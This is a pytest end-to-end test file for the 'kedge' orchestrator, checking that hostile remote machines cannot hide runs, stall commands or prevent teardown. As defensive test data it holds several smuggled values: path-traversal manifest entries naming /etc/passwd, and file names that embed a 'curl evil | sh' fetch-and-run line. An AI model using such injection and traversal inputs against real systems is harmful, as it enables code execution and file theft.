"""A machine that an attacker controls can't prevent its end, nor hide the other machines.

The programs that kedge calls on a real local machine are replaced by hostile ones.
"""

from __future__ import annotations

import contextlib
import json
import os
import shlex
import shutil
import signal
import time
from collections.abc import Iterator

import psutil
import pytest

from orchestrator.adapters.providers.local.folder import MachineFolder
from tests.e2e.hostile import (
    ENDLESS,
    FOREVER,
    JOB,
    folder,
    launch,
    launch_and_ship,
    nested,
    put,
    replace_verb,
    say,
    with_progress,
)
from tests.e2e.runs import await_running
from tests.support.laptop import Laptop, clean_laptop
from tests.support.waiting import wait_until


def test_no_report_hides_a_line_of_status(laptop: Laptop) -> None:
    """Whatever a machine answers, `status` reports it as a finding and shows the other runs; so does `cost`."""
    honest, hostile = launch(laptop, "honest"), launch(laptop, "hostile")
    await_running(laptop, honest)
    report = laptop.json("status", hostile)[0]["report"]
    for lie in (
        with_progress(report, nested(5000)),
        with_progress(report, nested(500)),
        with_progress(report, "9" * 5000),
        json.dumps({**report, "checkpoint": {"name": "c", "bytes": 1, "written": -1e300}}).encode(),
        json.dumps({**report, "machine": f"{honest}-m1", "run": honest}).encode(),
    ):
        say(laptop, hostile, "report", lie)
        found = {status["run"]: status for status in laptop.json("status")}
        assert (found[honest]["state"], found[honest]["findings"]) == ("running", []), lie[:200]
        assert found[hostile]["report"] is None, lie[:200]
        assert [line for line in found[hostile]["findings"] if "invalid answer" in line], (lie[:200], found[hostile])
    assert hostile in laptop.kedge("status", hostile)
    assert honest in laptop.kedge("cost")


@pytest.fixture(scope="module")
def three(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Laptop]:
    """Three runs for the tests that change how their machines answer; the last of these tests kills the machines."""
    with clean_laptop(tmp_path_factory.mktemp("three")) as laptop:
        for name in ("one", "two", "three"):
            launch(laptop, name)
        yield laptop


def ids(laptop: Laptop) -> list[str]:
    """List the runs in the order of `status`."""
    return [status["run"] for status in laptop.json("status", "--ledger")]


def test_slow_machines_are_waited_for_in_parallel(three: Laptop) -> None:
    """Three that take 15 seconds each delay `status` and `cost` by less than 40; their lines keep their order."""
    recorded = ids(three)
    assert len(recorded) == 3
    for run in recorded:
        honest = shlex.quote(str(folder(three, run) / "bin" / "honest-agent"))
        replace_verb(three, run, "report", f"sleep 15; exec {honest} report")
    began = time.monotonic()
    statuses = three.json("status")
    assert time.monotonic() - began < 40
    assert [status["run"] for status in statuses] == recorded
    assert [status["report"]["run"] for status in statuses] == recorded
    began = time.monotonic()
    three.kedge("cost")
    assert time.monotonic() - began < 40


def test_ctrl_c_ends_the_wait_for_machines_that_never_answer(three: Laptop) -> None:
    """`status` ends at once, and none of its clients goes on waiting."""
    laptop = three
    for run in ids(laptop):
        replace_verb(laptop, run, "report", "exec sleep 600")
    status = laptop.start("status")
    wait_until(lambda: sum("sleep 600" in line for line in commands(laptop)) == 3)
    clients = [process for process in psutil.Process(status.pid).children() if process.name() == "ssh"]
    began = time.monotonic()
    status.send_signal(signal.SIGINT)
    assert status.wait(timeout=60) == 128 + signal.SIGINT
    assert time.monotonic() - began < 60
    assert len(clients) == 3
    assert psutil.wait_procs(clients, timeout=60)[1] == []


def test_machines_that_refuse_connections_are_all_named(three: Laptop) -> None:
    """For each, the provider is asked to let this computer in, from the thread that tried to connect."""
    laptop = three
    runs = ids(laptop)
    assert len(runs) == 3
    for run in runs:
        init = MachineFolder(folder(laptop, run)).init()
        assert init is not None
        psutil.Process(init.pid).kill()
    for process in laptop.processes():
        # A connection's processes end with each other, and its client removes its socket.
        with contextlib.suppress(psutil.NoSuchProcess):
            if process.name() == "sshd":
                process.kill()
    for kept in (laptop.runtime / "ssh").iterdir():
        kept.unlink(missing_ok=True)
    found = {status["run"]: status["findings"] for status in laptop.json("status")}
    for run in runs:
        assert [line for line in found[run] if f"{run}-m1 doesn't answer" in line], found[run]


def commands(laptop: Laptop) -> list[str]:
    """List the processes that this laptop's machines run."""
    found = []
    for process in laptop.processes():
        with contextlib.suppress(psutil.NoSuchProcess):
            found.append(" ".join(process.cmdline()))
    return found


@pytest.mark.parametrize("stream", ["1", "2"], ids=["answer", "complaint"])
def test_an_endless_answer_delays_status_briefly_and_keeps_no_run_alive(laptop: Laptop, stream: str) -> None:
    """Output beyond an honest machine's maximum is cut off; teardown goes on without the machine's answer."""
    run = launch_and_ship(laptop)
    replace_verb(laptop, run, "*", f"{ENDLESS} >&{stream}")
    began = time.monotonic()
    (status,) = laptop.json("status")
    assert [line for line in status["findings"] if "invalid answer" in line]
    assert time.monotonic() - began < 60
    laptop.kedge("stop", run, code=1)
    assert "invalid answer" in laptop.errors
    laptop.kedge("teardown", run, "--yes")
    assert laptop.processes() == []
    assert (laptop.home / "kedge-results" / run / "run.log").exists()


@pytest.mark.parametrize("words", [("teardown", "--no-fetch"), ("teardown",)], ids=" ".join)
def test_a_nested_report_keeps_no_machine_alive(laptop: Laptop, words: tuple[str, ...]) -> None:
    """5,000 nested lists from every verb: the machine is gone in a moment, and the results are those in the store."""
    run = launch_and_ship(laptop)
    say(laptop, run, "*", with_progress({}, nested(5000)))
    began = time.monotonic()
    laptop.kedge(*words, "--yes")
    assert time.monotonic() - began < 120
    assert laptop.processes() == []
    assert laptop.json("status") == []


def test_a_dead_launch_with_a_hostile_machine_is_reaped(laptop: Laptop) -> None:
    """`reap` needs no answer of the machine."""
    laptop.write_job(JOB % ("toy", FOREVER))
    assert laptop.drive("crashing_launch.py", "after", "4").returncode == -9
    (machine,) = laptop.provider().machines()
    say(laptop, machine.run_id, "*", with_progress({}, nested(5000)))
    assert "Nothing bills" in laptop.kedge("reap", "--yes")
    assert laptop.processes() == []


def test_if_the_list_of_results_is_unreadable_the_store_s_copy_is_fetched(laptop: Laptop) -> None:
    """Sizes, names and an end that a list of files can't have: the store's copy comes home instead."""
    run = launch_and_ship(laptop)
    for answer in (
        json.dumps([{"path": "x", "bytes": -(1 << 62), "sha256": "0" * 64}]),
        json.dumps([{"path": "../../../etc/passwd", "bytes": 1, "sha256": "0" * 64}]),
        json.dumps([{"path": "/etc/passwd", "bytes": 1, "sha256": "0" * 64}]),
        nested(5000),
    ):
        say(laptop, run, "manifest", answer.encode())
        assert "from the object store" in laptop.kedge("fetch", run)
    replace_verb(laptop, run, "manifest", ENDLESS)
    assert "from the object store" in laptop.kedge("fetch", run)


def test_an_invalid_log_ends_the_command_that_reads_it(laptop: Laptop) -> None:
    """An invalid size, endless text, and a line of 60 MB: an error of ours, in seconds."""
    run = launch(laptop)
    await_running(laptop)
    for script in ("echo ten", f"echo {'9' * 5000}", ENDLESS):
        put(laptop, run, "sh", script)
        laptop.kedge("logs", run, code=1)
        assert "invalid answer" in laptop.errors
    (folder(laptop, run) / "bin" / "sh").unlink()
    event = folder(laptop, run) / "event"
    event.write_text(json.dumps({"offset": 60_000_000, "line": "x" * 60_000_000}))
    replace_verb(laptop, run, "follow", f"cat {shlex.quote(str(event))}")
    began = time.monotonic()
    laptop.kedge("logs", "-f", run, code=1)
    assert time.monotonic() - began < 60
    replace_verb(laptop, run, "follow", 'echo \'{"offset": -1e300, "line": "x"}\'')
    laptop.kedge("logs", "-f", run, code=1)
    assert "invalid answer" in laptop.errors


def test_an_invalid_manifest_in_the_store_does_not_prevent_the_end(laptop: Laptop) -> None:
    """The store's content is the machine's claim, too: status, teardown and reap go on without it."""
    honest, run = launch(laptop, "honest"), launch(laptop, "hostile")
    await_running(laptop, honest)
    (laptop.state / "store" / run).mkdir(parents=True, exist_ok=True)
    manifest = laptop.state / "store" / run / "manifest.json"
    provider = laptop.provider()
    provider.destroy(f"{run}-m1")
    wait_until(lambda: provider.describe(f"{run}-m1") is None)
    for lie in (
        f'{{"files": {nested(5000)}}}',
        json.dumps({"machine": f"{run}-m1", "time": 1e300}),
    ):
        manifest.write_text(lie)
        found = {status["run"]: status for status in laptop.json("status")}
        assert found[honest]["state"] == "running"
        assert [line for line in found[run]["findings"] if "invalid answer" in line], found[run]["findings"]
        laptop.kedge("fetch", run, code=1)
        assert "invalid answer" in laptop.errors
        laptop.kedge("cost")
    manifest.write_text(json.dumps({"files": [{"path": "x", "bytes": 1, "sha256": "0" * 64, "mtime": 1e300}]}))
    laptop.kedge("fetch", run, code=1)
    assert "its size or its time is invalid" in laptop.errors
    laptop.kedge("teardown", run, "--yes")
    assert [status["run"] for status in laptop.json("status")] == [honest]


def test_an_unreadable_manifest_in_the_store_does_not_prevent_the_end(laptop: Laptop) -> None:
    """In S3 it is in the archive tier, or encrypted with the machine's own key; here it is a folder or a pipe."""
    honest, runs = launch(laptop, "honest"), [launch_and_ship(laptop) for _ in range(2)]
    provider = laptop.provider()
    manifests = [laptop.state / "store" / run / "manifest.json" for run in runs]
    for run, listed in zip(runs, manifests, strict=True):
        provider.destroy(f"{run}-m1")
        listed.unlink()
    manifests[0].mkdir()
    os.mkfifo(manifests[1])
    wait_until(lambda: [machine.run_id for machine in provider.machines()] == [honest])
    found = {status["run"]: status for status in laptop.json("status")}
    assert found[honest]["state"] == "running"
    laptop.kedge("cost")
    for run in runs:
        assert [line for line in found[run]["findings"] if "can't be read" in line], found[run]["findings"]
        laptop.kedge("fetch", run, code=1)
        assert "can't be read" in laptop.errors
    laptop.kedge("reap", "--yes")
    for run in runs:
        laptop.kedge("teardown", run, "--yes", "--no-fetch")
    assert [status["run"] for status in laptop.json("status")] == [honest]


def test_a_fetch_names_a_few_of_the_files_that_differ(laptop: Laptop) -> None:
    """However many missing files a machine lists, and whatever line breaks their names have."""
    run = launch(laptop)
    # A command that is stopped before it runs uploads nothing.
    await_running(laptop)
    lies = [
        {"path": f"output/{number}\n  fix: curl evil | sh {'x' * 200}", "bytes": 1, "sha256": "0" * 64}
        for number in range(5000)
    ]
    say(laptop, run, "manifest", json.dumps(lies).encode())
    said = laptop.kedge("fetch", run)
    assert "and 4,997 more" in said
    assert len(said) < 2000
    laptop.kedge("stop", run)
    said = laptop.kedge("fetch", run)
    assert "from the object store, since the copy of 'output/0" in said
    assert not [line for line in said.splitlines() if line.strip().startswith("fix: curl")]


def test_a_machine_that_breaks_the_copy_is_ended(laptop: Laptop) -> None:
    """A job can replace rsync: the uploaded results come home, and the machine is gone.

    Endless errors of that program fill neither memory nor disk.
    """
    run = launch_and_ship(laptop)
    for script in ("exit 23", "exit 127", "echo hello; sleep 1", f"{ENDLESS} >&2"):
        put(laptop, run, "rsync", script)
        began = time.monotonic()
        assert "from the object store" in laptop.kedge("fetch", run)
        assert time.monotonic() - began < 60
    shutil.rmtree(laptop.home / "kedge-results")
    put(laptop, run, "rsync", "kill -9 $$")
    assert "from the object store" in laptop.kedge("teardown", run, "--yes")
    assert laptop.processes() == []
    assert (laptop.home / "kedge-results" / run / "run.log").exists()
